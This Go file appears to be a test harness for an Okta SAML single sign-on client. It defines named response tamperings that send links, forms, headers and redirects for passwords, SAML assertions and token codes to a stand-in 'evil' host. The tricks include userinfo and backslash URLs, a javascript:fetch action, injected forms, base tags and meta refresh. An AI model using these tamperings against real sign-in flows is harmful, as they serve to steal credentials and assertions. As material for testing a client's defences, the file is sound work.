package attack

import (
	"bytes"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
)

// site names the hosts of an attack, with their ports.
type site struct{ evil, okta, portal string }

var (
	formAction = regexp.MustCompile(`action="[^"]*"`)
	bodyBegins = regexp.MustCompile(`(?i)<body[^>]*>`)
)

// tampers are the ways in which answers lead to the evil host, by name.
func (s site) tampers() map[string]tamper {
	evil := "http://" + s.evil
	_, port, _ := net.SplitHostPort(s.evil)
	return map[string]tamper{
		"honest": nil,

		"every link and form": body(s.mislead),
		"every Location": func(_ *http.Request, a *httptest.ResponseRecorder) {
			if to := a.Header().Get("Location"); to != "" {
				a.Header().Set("Location", s.mislead(to))
			}
		},
		"Okta's links": func(r *http.Request, a *httptest.ResponseRecorder) {
			if strings.HasPrefix(r.URL.Path, "/api/") {
				body(s.mislead)(r, a)
			}
		},
		"another organization": func(r *http.Request, a *httptest.ResponseRecorder) {
			if strings.Contains(r.URL.Path, "/.well-known/") {
				a.Body = bytes.NewBufferString(`{"id":"00oxyz","_links":{"organization":{"href":"` + evil + `"},"alternate":{"href":"` + evil + `"}},"pipeline":"v1"}`)
			}
		},

		"a form's action":           action(evil + "/oauth2/saml/signin"),
		"an action with a user":     action("http://" + s.portal + "@" + s.evil + "/oauth2/saml/signin"),
		"an action with backslash":  action("http://" + s.evil + `\@` + s.portal + "/x"),
		"an action without scheme":  action("//" + s.evil + "/oauth2/saml/signin"),
		"an action at another port": action("http://localhost:" + port + "/portal/sharing/rest/oauth2/saml/signin"),
		"an action that is script":  action("javascript:fetch('" + evil + "')"),
		"an action in white space":  action(" \t\n" + evil + "/x"),
		"a form before the form": body(func(page string) string {
			return prepend(page, `<form id="appForm" method="post" action="`+evil+`/x"><input name="SAMLResponse" value="eA=="><input name="RelayState" value=""></form>`)
		}),
		"a base address": body(func(page string) string { return prepend(page, `<base href="`+evil+`/">`) }),
		"a refresh in the page": body(func(page string) string {
			return prepend(page, `<meta http-equiv="refresh" content="0;url=`+evil+`/x">`)
		}),
		"a Refresh header": func(_ *http.Request, a *httptest.ResponseRecorder) { a.Header().Set("Refresh", "0;url="+evil) },

		"authorize redirects":      redirect(302, "GET", "/oauth2/authorize", evil),
		"the hand-off redirects":   redirect(302, "GET", "/oauth2/saml/authorize", evil),
		"Okta's page redirects":    redirect(302, "GET", "/sso/saml", evil),
		"Okta's page, posted, 307": redirect(307, "POST", "/sso/saml", evil),
		"the password's 307":       redirect(307, "POST", "/api/v1/authn", evil),
		"the password's 308":       redirect(308, "POST", "/api/v1/authn", evil),
		"the assertion's 307":      redirect(307, "POST", "/oauth2/saml/signin", evil),
		"the assertion's redirect": redirect(302, "POST", "/oauth2/saml/signin", evil),
		"the code's 307":           redirect(307, "POST", "/oauth2/token", evil),
		"the code's redirect":      redirect(302, "POST", "/oauth2/token", evil),
	}
}

// mislead replaces the addresses of Okta and the Portal by the evil host's,
// however they are escaped.
func (s site) mislead(text string) string {
	for _, host := range []string{s.okta, s.portal} {
		for _, escape := range []func(string) string{
			func(s string) string { return s },
			url.QueryEscape,
			strings.NewReplacer("/", `\/`).Replace,
			strings.NewReplacer(":", "&#x3a;", "/", "&#x2f;").Replace,
			strings.NewReplacer(":", "&#x3a;", "/", "&#x2f;", ".", "&#x2e;").Replace,
			strings.NewReplacer(":", `\x3A`, "/", `\x2F`).Replace,
			strings.NewReplacer(":", `\x3A`, "/", `\x2F`, ".", `\x2E`).Replace,
		} {
			text = strings.ReplaceAll(text, escape("http://"+host), escape("http://"+s.evil))
		}
	}
	return text
}

// body changes every body.
func body(change func(string) string) tamper {
	return func(_ *http.Request, a *httptest.ResponseRecorder) {
		a.Body = bytes.NewBufferString(change(a.Body.String()))
	}
}

// action changes where the forms of SAML go.
func action(to string) tamper {
	return func(_ *http.Request, a *httptest.ResponseRecorder) {
		if page := a.Body.String(); strings.Contains(page, "SAMLResponse") || strings.Contains(page, "SAMLRequest") {
			a.Body = bytes.NewBufferString(formAction.ReplaceAllLiteralString(page, `action="`+to+`"`))
		}
	}
}

// redirect makes a redirect of the answers to a method under a part of a path.
func redirect(status int, method, under, to string) tamper {
	return func(r *http.Request, a *httptest.ResponseRecorder) {
		if r.Method == method && strings.Contains(r.URL.Path, under) {
			a.Code = status
			a.Header().Set("Location", to+r.URL.Path)
		}
	}
}

// prepend puts markup at the beginning of a page's body.
func prepend(page, markup string) string {
	at := bodyBegins.FindStringIndex(page)
	if at == nil {
		return page
	}
	return page[:at[1]] + markup + page[at[1]:]
}
